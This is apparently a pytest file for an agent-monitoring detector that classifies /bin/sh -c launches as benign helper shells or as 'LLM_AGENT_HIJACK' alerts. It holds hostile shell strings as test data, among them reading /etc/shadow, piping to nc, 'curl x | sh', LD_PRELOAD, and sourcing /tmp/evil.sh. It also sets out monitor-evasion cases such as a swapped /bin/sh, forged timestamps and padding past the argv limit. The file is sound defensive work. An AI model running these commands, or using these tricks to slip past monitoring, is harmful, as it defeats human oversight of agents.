"""L2's helper-shell rule (no BPF): which `/bin/sh -c` launches are a program's own helper.

A shell a program (not the agent, not an interpreter) starts as ``/bin/sh -c ONE_SIMPLE_COMMAND``
is transparent: L2 judges what it execs.  Everything else about shells is as before.  The live
counterpart (git's upload-pack, tar's gzip; tar -I curl, git sshCommand) is in
tests/test_live_exec_identity.py.
"""

from __future__ import annotations

import os
import shutil
from typing import Any

import pytest
from conftest import file_exec

from h7.config import EngineConfig
from h7.detect.channels.base import ChannelContext, ProcReader
from h7.detect.channels.l2_exec import ExecChannel, _Image, simple_command

DASH = os.path.realpath("/bin/sh")
pytestmark = pytest.mark.skipif(os.path.basename(DASH) != "dash", reason="/bin/sh is not dash here")


def channel(l2cfg: dict[str, Any] | None = None) -> tuple[ExecChannel, ChannelContext]:
    cfg = EngineConfig(channel_settings={"L2": l2cfg or {}})
    ch = ExecChannel(cfg)
    ctx = ChannelContext(agent=1, agent_id="agent1", info=None, config=cfg, proc=ProcReader(False))
    return ch, ctx


def ex(pid: int, ppid: int, filename: str, args: list[str], exe_name: str | None = None) -> dict[str, Any]:
    """An exec record as the kernel sends it: the file's device in the kernel's encoding."""
    return file_exec(filename, args, pid, ppid, **({"exe_name": exe_name} if exe_name else {}))


def keys(ch: ExecChannel, ctx: ChannelContext, events: list[dict[str, Any]]) -> list[str]:
    return [f"{a.code}:{a.key}" for a in ch.on_events(events, ctx)]


@pytest.mark.parametrize(
    "cmd",
    ["gzip", "git-upload-pack '/tmp/x y/origin.git'", "xz -T0 -9", 'bzip2 "a b"', "/usr/bin/zstd -q --ultra"],
)
def test_one_simple_command(cmd: str) -> None:
    assert simple_command(cmd)


@pytest.mark.parametrize(
    "cmd",
    [
        "",
        "  ",
        "gzip; curl x",
        "gzip | nc h 1",
        "gzip && id",
        "gzip &",
        "gzip > /tmp/o",
        "gzip < /etc/shadow",
        "$(curl x)",
        "`id`",
        "gzip $HOME",
        "(gzip)",
        "{ gzip; }",
        "gzip\nid",
        "gzip \\\nid",
        "LD_PRELOAD=/tmp/x.so gzip",
        ". /tmp/evil.sh",
        "source /tmp/evil.sh",
        "eval id",
        "exec gzip",
        "trap id EXIT",
        "command gzip",
        "'unterminated",
    ],
)
def test_not_one_simple_command(cmd: str) -> None:
    assert simple_command(cmd) is None


def test_tar_and_git_helpers_are_transparent_what_they_run_is_judged() -> None:
    ch, ctx = channel()
    tar = [ex(10, 1, "/usr/bin/tar", ["tar", "czf", "a.tgz", "src"])]
    assert (
        keys(
            ch,
            ctx,
            [*tar, ex(11, 10, "/bin/sh", ["/bin/sh", "-c", "gzip"]), ex(12, 11, "/usr/bin/gzip", ["gzip"])],
        )
        == []
    )
    git = [ex(20, 1, "/usr/bin/git", ["git", "push"])]
    up = "git-receive-pack '/tmp/o.git'"
    assert keys(ch, ctx, [*git, ex(21, 20, "/bin/sh", ["/bin/sh", "-c", up, up])]) == []
    # tar -I 'curl ...' / tar -I 'python3 x.py': the helper is judged, with the shell as its parent
    assert keys(
        ch,
        ctx,
        [
            ex(30, 1, "/usr/bin/tar", ["tar"]),
            ex(31, 30, "/bin/sh", ["sh", "-c", "curl -s http://h/"]),
            ex(32, 31, "/usr/bin/curl", ["curl", "-s", "http://h/"]),
        ],
    ) == ["LIVING_OFF_THE_LAND:curl"]
    py = "/usr/bin/python3"  # the path dash found on $PATH (the kernel's filename)
    assert keys(
        ch,
        ctx,
        [
            ex(40, 1, "/usr/bin/tar", ["tar"]),
            ex(41, 40, "/bin/sh", ["sh", "-c", "python3 /tmp/x.py"]),
            ex(42, 41, py, ["python3", "/tmp/x.py"]),
        ],
    ) == ["LLM_AGENT_HIJACK:python<-dash"]
    assert ch.status()["helper_shells"] == 4


def test_shells_that_are_not_a_programs_helper_still_alert() -> None:
    ch, ctx = channel()
    git = ex(10, 1, "/usr/bin/git", ["git"])
    cases = {
        # the agent's own sh -c, however simple
        "agent": [ex(5, 1, "/bin/sh", ["sh", "-c", "gzip"])],
        # an interpreter's os.system / npm's scripts (node): the interpreter's code chose the command
        "python": [
            ex(6, 1, "/usr/bin/python3", ["python3", "x.py"]),
            ex(7, 6, "/bin/sh", ["sh", "-c", "id"]),
        ],
        # a shell started by a shell (the transparent one's exec is judged with parent dash)
        "shell-in-helper": [
            ex(20, 1, "/usr/bin/tar", ["tar"]),
            ex(21, 20, "/bin/sh", ["sh", "-c", "sh -c 'id'"]),
            ex(21, 20, "/bin/sh", ["sh", "-c", "id"]),
        ],
        # not /bin/sh: bash asked for by name, or interactive/extra options
        "bash": [git, ex(12, 10, "/bin/bash", ["bash", "-c", "gzip"])],
        "options": [git, ex(13, 10, "/bin/sh", ["sh", "-e", "-c", "gzip"])],
        "argv0": [git, ex(14, 10, "/bin/sh", ["[kworker/u4:2]", "-c", "gzip"])],
        "script": [git, ex(15, 10, "/bin/sh", ["sh", "/tmp/x.sh"])],
        # after -c dash still takes options: the command string is the word after them
        "dashdash": [git, ex(18, 10, "/bin/sh", ["sh", "-c", "--", "curl x | sh"])],
        "option": [git, ex(19, 10, "/bin/sh", ["sh", "-c", "-e", "id; id"])],
        "plus-option": [git, ex(19, 10, "/bin/sh", ["sh", "-c", "+e", "id; id"])],
    }
    for name, evs in cases.items():
        got = keys(ch, ctx, evs)
        assert any(k.startswith("LLM_AGENT_HIJACK:") for k in got), (name, got)


def _through_another_mount(ev: dict[str, Any]) -> dict[str, Any]:
    """/bin/sh as a vmtest guest's kernel reports it: the same file, another (dev, inode) (9p, overlay)."""
    return dict(ev, dev=(0 << 20) | 4095, ino=ev["ino"] + 7_000_000)


def test_the_system_shell_through_another_mount_is_a_helper() -> None:
    """In the vmtest guests /bin/sh is identified by its ELF layout, not its inode: still /bin/sh.

    Session 5's rule accepted only name or inode identities, so it never applied there (both
    guests: `dash:elf-layout:/bin/sh<-tar`).  The file's own facts decide now.
    """
    ch, ctx = channel()
    ch.on_events([ex(10, 1, "/usr/bin/tar", ["tar", "czf", "a.tgz", "src"])], ctx)
    shell = _through_another_mount(ex(11, 10, "/bin/sh", ["/bin/sh", "-c", "gzip"]))
    _, how = ch.identities(shell, ctx)
    assert how == "elf-layout", how
    assert keys(ch, ctx, [shell, ex(11, 10, "/usr/bin/gzip", ["gzip"])]) == []
    assert ch.status()["helper_shells"] == 1


def _mutated(field: str) -> dict[str, Any]:
    ev = _through_another_mount(ex(11, 10, "/bin/sh", ["sh", "-c", "gzip"]))
    if field == "size":  # a padded copy bind-mounted over /bin/sh in the agent's mount namespace
        ev["size"] += 1
    elif field == "ctime_ns":  # a byte-identical copy put there: its ctime is its own (mtime forged)
        ev["ctime_ns"] += 1
    elif field == "mtime_ns":
        ev["mtime_ns"] += 1
    elif field == "head":  # a patched shell of the same size and times cannot exist; its bytes differ
        ev["head"] = "00" + ev["head"][2:]
    else:  # the kernel's own facts: a memfd, a deleted file, a file the agent wrote
        ev["id_flags"] = [field]
    return ev


@pytest.mark.parametrize(
    "field", ["size", "ctime_ns", "mtime_ns", "head", "memfd", "deleted", "agent-written"]
)
def test_a_shell_that_is_not_the_system_shell_is_never_a_helper(field: str) -> None:
    """A padded, copied, patched, fileless or agent-written shell at /bin/sh is not transparent."""
    ch, ctx = channel()
    ch.baseline_end_ns = 0
    ch.on_events([ex(10, 1, "/usr/bin/tar", ["tar"])], ctx)
    ev = _mutated(field)
    assert not ch._is_system_shell(ev)
    got = keys(ch, ctx, [ev])
    assert any(k.startswith("LLM_AGENT_HIJACK:dash") and k.endswith("<-tar") for k in got), got


def test_a_copy_known_by_content_is_never_a_helper() -> None:
    """A shell known only by its content (not the system's /bin/sh file) is not transparent."""
    ch, ctx = channel()
    ch.on_events([ex(10, 1, "/usr/bin/tar", ["tar"])], ctx)
    ev = dict(_mutated("ctime_ns"), exe_name="notes", dev=0, ino=0, head="")
    ids, how = ch.identities(ev, ctx)
    assert how == "sha256", how
    assert not ch._helper_shell(ev, ids, _Image("tar"))
    assert keys(ch, ctx, [ev]) == ["LLM_AGENT_HIJACK:dash:sha256:/bin/sh<-tar"]


def test_a_program_given_the_shell_on_its_command_line_is_a_launcher() -> None:
    """`mywrap -u x /bin/sh -c gzip`, `find . -exec sh -c gzip ;`: the agent named the shell.

    A program not in the launcher list that received the shell as one of its words is treated
    as one; so is a program whose command line L2 did not see whole (the shell may be past the cut).
    """
    for parent in (
        ["mywrap", "-u", "x", "/bin/sh", "-c", "gzip"],
        ["mywrap", "--shell=/bin/sh", "gzip"],
        ["mywrap", "dash"],
    ):
        ch, ctx = channel()
        got = keys(ch, ctx, [ex(10, 1, "/usr/bin/tar", parent), ex(11, 10, "/bin/sh", ["sh", "-c", "gzip"])])
        assert got == ["LLM_AGENT_HIJACK:dash<-tar"], (parent, got)
    ch, ctx = channel()
    cut = dict(ex(10, 1, "/usr/bin/tar", ["tar", "-czf", "x" * 240]), args_truncated=True)
    assert keys(ch, ctx, [cut, ex(11, 10, "/bin/sh", ["sh", "-c", "gzip"])]) == ["LLM_AGENT_HIJACK:dash<-tar"]
    # a word that merely contains "sh" is no shell: git's own helper stays transparent
    ch, ctx = channel()
    git = ex(10, 1, "/usr/bin/git", ["git", "-c", "push.default=shell", "push", "origin", "sh-fix"])
    up = "git-receive-pack '/tmp/o.git'"
    assert keys(ch, ctx, [git, ex(11, 10, "/bin/sh", ["sh", "-c", up, up])]) == []


def test_an_interpreter_known_by_content_is_an_interpreter_parent() -> None:
    """A renamed python (`/tmp/notes`, known by inode) running os.system('gzip'): `dash<-notes`."""
    ch, ctx = channel()
    py = os.path.realpath("/usr/bin/python3")
    notes = dict(
        ex(6, 1, py, ["notes", "x.py"]), filename="/tmp/notes", exe_name="notes", interp="/tmp/notes"
    )
    got = keys(ch, ctx, [notes, ex(7, 6, "/bin/sh", ["sh", "-c", "gzip"])])
    assert "LLM_AGENT_HIJACK:dash<-notes" in got, got


def test_helper_shells_can_be_switched_off() -> None:
    ch, ctx = channel({"helper_shells": []})
    got = keys(
        ch, ctx, [ex(10, 1, "/usr/bin/tar", ["tar"]), ex(11, 10, "/bin/sh", ["/bin/sh", "-c", "gzip"])]
    )
    assert got == ["LLM_AGENT_HIJACK:dash<-tar"]


@pytest.mark.parametrize("launcher", ["env", "nohup", "timeout", "xargs", "setsid", "find"])
def test_a_launchers_shell_is_the_agents_shell(launcher: str) -> None:
    """`env sh -c gzip`: env runs what the agent gave it, so the shell is the agent's (`dash<-env`)."""
    ch, ctx = channel()
    path = f"/usr/bin/{launcher}"
    if not os.path.exists(path):
        pytest.skip(f"no {path}")
    got = keys(ch, ctx, [ex(10, 1, path, [launcher]), ex(11, 10, "/bin/sh", ["sh", "-c", "gzip"])])
    assert got == [f"LLM_AGENT_HIJACK:dash<-{launcher}"]


def test_a_reused_pid_does_not_inherit_a_dead_programs_image() -> None:
    """tar (pid 10) exits; the agent's next child gets pid 10 and forks without exec: its child's sh is
    the agent's, not tar's helper."""
    ch, ctx = channel()
    tar = ex(10, 1, "/usr/bin/tar", ["tar"])
    gone = {"type": "exit", "pid": 10, "tid": 10, "ts_ns": 11}
    got = keys(ch, ctx, [tar, gone, ex(12, 10, "/bin/sh", ["sh", "-c", "gzip"])])
    assert got == ["LLM_AGENT_HIJACK:dash<-agent"]
    # a thread's exit is not the process's
    ch2, ctx2 = channel()
    thread = {"type": "exit", "pid": 10, "tid": 13, "ts_ns": 11}
    assert keys(ch2, ctx2, [tar, thread, ex(12, 10, "/bin/sh", ["sh", "-c", "gzip"])]) == []


def test_a_command_cut_by_the_kernels_argv_limit_is_not_a_helper() -> None:
    """The kernel keeps 256 bytes of argv: `gzip<padding>; curl x | sh` arrives as a harmless `gzip ...`.

    So it is not a one-simple-command helper: it is a recipe shell (anything may follow the
    cut), transparent like every recipe shell, and without recipe shells it is ``dash<-tar``.
    """
    tar = ex(10, 1, "/usr/bin/tar", ["tar"])
    cut = dict(ex(11, 10, "/bin/sh", ["sh", "-c", "gzip" + " " * 240]), args_truncated=True)
    ch, ctx = channel({"recipe_shells": False})
    assert keys(ch, ctx, [tar, cut]) == ["LLM_AGENT_HIJACK:dash<-tar"]
    ch, ctx = channel()
    assert keys(ch, ctx, [tar, cut]) == [] and ch.status()["recipe_shells"] == 1
    assert ch.status()["helper_shells"] == 0, "a cut command was taken for one simple command"
    # git's form passes CMD again as $0: CMD was followed by another word, so it was captured whole
    ch2, ctx2 = channel()
    up = "git-upload-pack '/" + "p" * 100 + "/o.git'"
    whole = dict(ex(21, 10, "/bin/sh", ["/bin/sh", "-c", up, up[:20]]), args_truncated=True)
    assert keys(ch2, ctx2, [tar, whole]) == []


def _fork(parent: int, child: int) -> dict[str, Any]:
    return {
        "type": "fork",
        "pid": parent,
        "tid": parent,
        "child": child,  # as h7.decode names it (the record's child_tgid; the L2 rule read that name)
        "ts_ns": child,
    }


def _exit(pid: int) -> dict[str, Any]:
    return {"type": "exit", "pid": pid, "tid": pid, "ts_ns": pid}


def test_a_helper_shell_that_interprets_instead_of_exec_gets_its_verdict() -> None:
    """The shell's verdict is held until its child execs CMD's program; anything else releases it.

    dash runs a shebang-less file it cannot exec (ENOEXEC) as a script, in the forked child: that
    child never execs, its own children do.  A CMD that runs nothing (not found) releases it at exit.
    """
    tar = ex(10, 1, "/usr/bin/tar", ["tar"])
    shell = ex(11, 10, "/bin/sh", ["sh", "-c", "./payload"])
    ch, ctx = channel()
    alerts = ch.on_events(
        [tar, shell, _fork(11, 12), _fork(12, 13), ex(13, 12, "/usr/bin/cat", ["cat"])], ctx
    )
    assert [f"{a.code}:{a.key}" for a in alerts] == ["LLM_AGENT_HIJACK:dash<-tar"]
    assert "did not exec its command" in alerts[0].evidence["helper_shell"]
    assert alerts[0].ts_ns == shell["ts_ns"]  # the shell's exec, not the moment it was given
    # the child execs another program than CMD's
    ch, ctx = channel()
    got = keys(ch, ctx, [tar, shell, _fork(11, 12), ex(12, 11, "/usr/bin/cat", ["cat"])])
    assert got == ["LLM_AGENT_HIJACK:dash<-tar"]
    # nothing exec'd before the shell exits
    ch, ctx = channel()
    assert keys(ch, ctx, [tar, shell, _fork(11, 12), _exit(12)]) == []
    assert keys(ch, ctx, [_exit(11)]) == ["LLM_AGENT_HIJACK:dash<-tar"]
    # the normal case: the child execs CMD's program; the shell's exit is then silent
    ch, ctx = channel()
    ok = [
        tar,
        ex(11, 10, "/bin/sh", ["sh", "-c", "gzip -9"]),
        _fork(11, 12),
        ex(12, 11, "/usr/bin/gzip", ["gzip"]),
    ]
    assert (
        keys(ch, ctx, [*ok, _fork(12, 14), ex(14, 12, "/usr/bin/cat", ["cat"]), _exit(12), _exit(11)]) == []
    )
    assert ch.status()["helper_shells_alerted"] == 0


def test_recipe_shells_are_transparent_what_they_run_is_judged() -> None:
    """make/ninja recipes, git bisect run and aliases: ``sh -c 'a && b'`` a program runs for itself.

    The shell gets no verdict (development acts benign_make_build_dev, benign_cmake_ninja_dev,
    benign_git_bisect_dev: ``dash<-make``, ``dash<-ninja``, ``dash<-git``); every program it
    runs is judged with ``dash`` as its parent: a LOTL tool, an interpreter (``python<-dash``),
    another shell (``dash<-dash``: never a helper or recipe shell, its parent is a shell).
    """
    make = ex(10, 1, "/usr/bin/make", ["make", "-j2", "-C", "/w"])
    recipe = ex(11, 10, "/bin/sh", ["/bin/sh", "-c", "echo '#define V 1' > v.h.tmp && mv v.h.tmp v.h"])
    mv = ex(12, 11, "/usr/bin/mv", ["mv", "v.h.tmp", "v.h"])
    ch, ctx = channel()
    assert keys(ch, ctx, [make, recipe, mv]) == []
    assert ch.status()["recipe_shells"] == 1
    git = ex(20, 1, "/usr/bin/git", ["git", "bisect", "run", "python3", "check.py"])
    bisect = ex(21, 20, "/bin/sh", ["sh", "-c", 'python3 check.py "$@"', "python3 check.py"])
    py = ex(22, 21, "/usr/bin/python3", ["python3", "check.py"])
    assert keys(ch, ctx, [git, bisect, py]) == ["LLM_AGENT_HIJACK:python<-dash"]
    # git core.sshCommand with arguments: sh -c 'nc h 1 "$@"' ...; nc is what it runs
    ssh = ex(31, 20, "/bin/sh", ["/bin/sh", "-c", 'nc h 1 "$@"', "nc h 1", "h", "git-upload-pack 'x'"])
    nc = shutil.which("nc") or shutil.which("curl")
    assert nc is not None
    tool = ex(32, 31, nc, [os.path.basename(nc), "h", "1"])
    assert [k.split(":")[0] for k in keys(ch, ctx, [ssh, tool])] == ["LIVING_OFF_THE_LAND"]
    # a recipe that starts a shell of its own: that shell's parent is a shell, never transparent
    make2 = ex(60, 1, "/usr/bin/make", ["make"])
    recipe2 = ex(61, 60, "/bin/sh", ["sh", "-c", "cd x && sh -c 'id; id'"])
    inner = ex(62, 61, "/bin/sh", ["sh", "-c", "id; id"])
    assert keys(ch, ctx, [make2, recipe2, inner]) == ["LLM_AGENT_HIJACK:dash<-dash"]
    # what a recipe shell sources or is given in its environment is dash code: still transparent
    for pid, cmd in ((50, ". /tmp/x.sh"), (51, "BASH_ENV=/tmp/x gzip")):
        assert keys(ch, ctx, [git, ex(pid, 20, "/bin/sh", ["sh", "-c", cmd])]) == [], cmd


def test_recipe_shells_keep_every_condition_but_the_command() -> None:
    """The agent's own compound ``sh -c``, an interpreter's, a launcher's, a copy's: shells as before."""
    make = ex(10, 1, "/usr/bin/make", ["make"])
    cases = {
        "agent": [ex(5, 1, "/bin/sh", ["sh", "-c", "a && b"])],
        "python": [
            ex(6, 1, "/usr/bin/python3", ["python3", "x.py"]),
            ex(7, 6, "/bin/sh", ["sh", "-c", "a; b"]),
        ],
        "env": [ex(8, 1, "/usr/bin/env", ["env"]), ex(9, 8, "/bin/sh", ["sh", "-c", "a; b"])],
        "bash": [make, ex(12, 10, "/bin/bash", ["bash", "-c", "a; b"])],
        "option": [make, ex(13, 10, "/bin/sh", ["sh", "-c", "-e", "a; b"])],
        "script": [make, ex(14, 10, "/bin/sh", ["sh", "/tmp/x.sh"])],
        "names-shell": [
            ex(15, 1, "/usr/bin/make", ["make", "SHELL=/bin/sh"]),
            ex(16, 15, "/bin/sh", ["sh", "-c", "a; b"]),
        ],
    }
    for name, evs in cases.items():
        ch, ctx = channel()
        got = keys(ch, ctx, evs)
        assert any(k.startswith("LLM_AGENT_HIJACK:") for k in got), (name, got)
        assert ch.status()["recipe_shells"] == 0, name
    ch, ctx = channel({"recipe_shells": False})
    got = keys(ch, ctx, [make, ex(11, 10, "/bin/sh", ["sh", "-c", "a && b"])])
    assert got == ["LLM_AGENT_HIJACK:dash<-make"]
    ch, ctx = channel({"helper_shells": []})
    assert keys(ch, ctx, [make, ex(11, 10, "/bin/sh", ["sh", "-c", "a && b"])]) == [
        "LLM_AGENT_HIJACK:dash<-make"
    ]
